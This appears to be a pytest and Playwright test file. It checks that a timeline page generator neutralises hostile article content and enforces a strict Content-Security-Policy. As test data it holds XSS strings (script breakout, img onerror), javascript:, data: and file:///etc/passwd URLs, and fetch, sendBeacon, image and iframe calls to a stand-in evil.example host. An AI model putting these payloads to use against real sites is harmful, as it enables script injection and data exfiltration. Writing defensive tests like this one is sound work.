"""What articles say is text, never markup or script; and the policy holds where code would not."""

# ruff: noqa: E501  (attempts in rows, with their code whole)
from __future__ import annotations

import base64
import hashlib
import html
import json
import re

import pytest
from chromium import Open
from invented import Article, Telling, day, texts_of, timeline_of, weir
from playwright.sync_api import Browser, expect

from timeline.writers.page import write

EVIL = (
    "</script><script>owned=1</script><img src=x onerror=owned=1><!--<script>{{data}}\x00\r\n\u2028"
)
ADDRESSES = [
    "JaVa\tScript:owned=1", "javascript:owned=1//https://a.example", " javascript:owned=1",
    "data:text/html,<script>owned=1</script>", "vbscript:owned", "file:///etc/passwd",
    "https://", "//evil.example/x",
]  # fmt: skip


def hostile() -> tuple[list[Article], list[Telling]]:
    articles = [Article(address, f"{EVIL} It rained. {EVIL}", EVIL) for address in ADDRESSES]
    articles.append(Article("HTTPS://news.example/a?b=1&c=<2>", f"{EVIL} It rained.", "Fair"))
    events = [
        Telling(EVIL, day("2024-05-05", EVIL), [(article, article.text, None)], place=EVIL,
                participants=(EVIL,), conflicts=(day("2023-05-05", EVIL),), id=f"{EVIL}{place}")
        for place, article in enumerate(articles)
    ]  # fmt: skip
    return articles, events


def test_nothing_of_an_article_runs(opened: Open) -> None:
    articles, events = hostile()
    timeline = timeline_of(articles, events, [(EVIL, EVIL)])
    page = opened(timeline, texts_of(articles))
    assert page.evaluate("typeof owned") == "undefined"
    for place in range(len(articles)):
        page.locator(".title").nth(place).click()
        assert page.locator(".article").text_content() == articles[place].text
        assert page.locator("#reader-title").text_content() == EVIL
    page.locator("#close").click()
    page.locator("#text").fill("<script>")
    expect(page.locator("#count")).to_have_text("9 of 9 events")
    assert page.evaluate("typeof owned") == "undefined"
    assert page.locator("img").count() == 0
    assert page.locator("script").count() == 2
    assert page.evaluate("document.title").startswith("Timeline of 9 documents")


def test_only_links_to_the_web(opened: Open) -> None:
    articles, events = hostile()
    page = opened(timeline_of(articles, events), texts_of(articles), f"#{len(events)}")
    for place in range(len(articles)):
        page.locator(".title").nth(place).click()
    links = page.evaluate(
        "[...document.querySelectorAll('a')].map(a => [a.protocol, a.href, a.rel])"
    )
    web = [link for link in links if link[0] != "file:"]
    assert web
    assert {tuple(link) for link in web} == {
        ("https:", "https://news.example/a?b=1&c=%3C2%3E", "noopener noreferrer")
    }
    inside = [link[1] for link in links if link[0] == "file:"]
    assert all(
        "#" in link and link.partition("#")[0] == page.url.partition("#")[0] for link in inside
    )


@pytest.mark.parametrize("address", ADDRESSES)
def test_the_page_itself_checks_addresses(browser: Browser, address: str) -> None:
    """As if one had got into the data all the same."""
    file = write(weir(), {}).data.decode()
    inside = json.dumps(address).replace("<", "\\u003c")
    spoiled = file.replace('"url":null', f'"url":{inside}')
    assert spoiled != file
    page = browser.new_page()
    page.set_content(spoiled)
    expect(page.locator("#sources li").first).to_contain_text("Lock gate fails")
    assert page.locator("#sources a").count() == 0
    page.locator(".title").first.click()
    assert page.locator("#reader h3 a").count() == 0
    page.close()


def test_one_document_with_a_hostile_title_names_the_page(opened: Open) -> None:
    article = Article("a.txt", "It rained.", EVIL)
    page = opened(timeline_of([article], [Telling("Rain", None, [(article, "It rained.", None)])]))
    assert page.evaluate("typeof owned") == "undefined"
    assert "<img src=x" in (page.locator("h1").text_content() or "")


@pytest.mark.parametrize(
    ("try_it", "directive"),
    [
        ("const s = document.createElement('script'); s.text = 'owned=1'", "require-trusted-types-for"),
        ("document.body.innerHTML = '<img src=x onerror=owned=1>'", "require-trusted-types-for"),
        ("fetch('https://evil.example/').catch(() => 0)", "connect-src"),
        ("new Image().src = 'https://evil.example/i.png'", "img-src"),
        ("const s = document.createElement('style'); s.textContent = 'p{color:red}'; document.head.append(s)", "style-src-elem"),
        ("document.body.setAttribute('style', 'color: red')", "style-src-attr"),
        ("const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)", "frame-src"),
        ("const a = document.createElement('a'); document.body.append(a); a.setAttribute('onclick', 'owned=1'); a.click()", "require-trusted-types-for"),
        ("navigator.sendBeacon('https://evil.example/', 'x')", "connect-src"),
    ],
)  # fmt: skip
def test_the_policy_blocks(browser: Browser, try_it: str, directive: str) -> None:
    """As if something had got in all the same."""
    page = browser.new_page()
    page.set_content(write(weir(), {}).data.decode())
    violated = page.evaluate(
        """async (code) => {
            const seen = [];
            addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
            try { (0, eval)(code) } catch (error) { seen.push(String(error)) }
            await new Promise((done) => setTimeout(done, 200));
            return seen;
        }""",
        try_it,
    )
    assert any(directive in one for one in violated), violated
    assert page.evaluate("typeof owned") == "undefined"
    page.close()


def test_the_policy_names_exactly_what_is_inside() -> None:
    articles, events = hostile()
    timeline = timeline_of(articles, events)
    page = write(timeline, texts_of(articles)).data.decode()
    policy = html.unescape(
        re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)[0]
    )
    styles = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    data, script = re.findall(r"<script[^>]*>(.*?)</script>", page, re.DOTALL)

    def source(text: str) -> str:
        return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"

    assert [source(style) for style in styles] == re.findall(r"style-src ([^;]+)", policy)
    assert [source(script)] == re.findall(r"script-src ([^;]+)", policy)
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "<" not in data
    documents = json.loads(data)["documents"]
    assert [one["text"] for one in documents] == [one.text for one in articles]
    assert [one["url"] for one in documents if one["url"]] == ["https://", articles[-1].id]


def test_folders_of_this_machine_are_not_on_the_page() -> None:
    article = Article("/home/ada/secret-case/a.txt", "It rained.")
    timeline = timeline_of([article], [Telling("Rain", None, [(article, "It rained.", None)])])
    written = write(timeline, texts_of([article]))
    assert b"secret-case" not in written.data
    assert [loss.what for loss in written.losses] == ["documents"]
